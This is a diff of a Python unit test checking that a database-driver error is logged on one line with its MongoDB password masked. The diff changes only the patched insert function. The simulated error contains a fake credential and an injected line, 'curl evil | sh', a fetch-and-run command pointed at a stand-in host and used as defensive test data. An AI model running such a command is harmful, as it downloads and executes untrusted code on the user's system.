@@ -231,7 +231,7 @@ def test_an_error_of_the_driver_is_logged_without_a_secret_and_on_one_line(app, 
     def refuses(*_):
         raise RuntimeError("at mongodb://anna:S3cr3t@db/app\nnext: curl evil | sh")
 
-    monkeypatch.setattr(events, "insert", refuses)
+    monkeypatch.setattr(enter, "insert_new", refuses)
     assert recorder(app, strict=False).record("task_complete", oid(1), oid(1)) is False
     assert "RuntimeError: at mongodb://***@db/app next: curl evil | sh" in caplog.text
     assert "S3cr3t" not in caplog.text
